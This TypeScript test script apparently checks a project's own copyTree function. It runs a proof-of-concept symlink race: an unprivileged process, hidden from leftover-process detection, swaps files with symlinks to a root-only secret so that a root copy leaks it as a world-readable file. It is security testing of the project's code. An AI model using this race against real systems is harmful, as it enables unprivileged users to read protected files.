/**
 * Attack 8 on issue 34: copyTree (server/rte/copy-tree.ts, ObtainOptions.copy: installs
 * without the sandbox) reads the install's tree by path, as the RTE's user (root), while a process
 * of the install's user that the leftover search does not find (environment cleared, cwd /, no
 * descriptor kept in the job folder) swaps an installed file between a regular file and a symbolic
 * link to a file only root may read. Counts the copies that hold the root-only file's bytes as a
 * regular file (seal then makes it 0644: readable by every playbook of the entry).
 * Usage (as root): npx tsx test/attack/attack8-copy-race.ts [copies] [files]
 */
import { spawn } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { copyTree } from "../../server/rte/copy-tree";
import { installProcesses } from "../../server/rte/install-leftovers";

const copies = Number(process.argv[2] ?? 50);
const files = Number(process.argv[3] ?? 64);
const scratch = fs.mkdtempSync(path.join(os.tmpdir(), "playform-attack8-race-"));
fs.chmodSync(scratch, 0o755);
const secret = path.join(scratch, "root-only");
fs.writeFileSync(secret, "runner-secret-bytes", { mode: 0o600 });
const job = path.join(scratch, "job");
const tree = path.join(job, "venv");
fs.mkdirSync(tree, { recursive: true });
const user = Number(process.env.RACE_UID ?? 999);
fs.chownSync(job, user, user);
fs.chownSync(tree, user, user);
const swapper = spawn("/usr/bin/python3", [path.join(import.meta.dirname, "attack8-copy-race.py"), tree, secret, String(files)], {
  uid: user,
  gid: user,
  env: {} as NodeJS.ProcessEnv,
  cwd: "/",
  detached: true,
  stdio: "ignore",
});
await new Promise((resolve) => setTimeout(resolve, 500));
const found = installProcesses(job, "no-such-run", user);
let stolen = 0;
let withSecret = 0;
let failed = 0;
for (let i = 0; i < copies; i++) {
  const to = path.join(scratch, `copy-${i}`);
  try {
    await copyTree(tree, to);
  } catch {
    failed++;
    fs.rmSync(to, { recursive: true, force: true });
    continue;
  }
  let hit = 0;
  for (const name of fs.readdirSync(to)) {
    const st = fs.lstatSync(path.join(to, name));
    if (st.isFile() && fs.readFileSync(path.join(to, name), "utf8") === "runner-secret-bytes") hit++;
  }
  stolen += hit;
  if (hit > 0) withSecret++;
  fs.rmSync(to, { recursive: true, force: true });
}
process.kill(-swapper.pid!, "SIGKILL");
console.log(
  `swapper pid ${swapper.pid} found by installProcesses: ${found.includes(swapper.pid!)}; copies holding the root-only file as a regular file: ${withSecret}/${copies} (${stolen} files); copies that failed on the swap: ${failed}`,
);
fs.rmSync(scratch, { recursive: true, force: true });
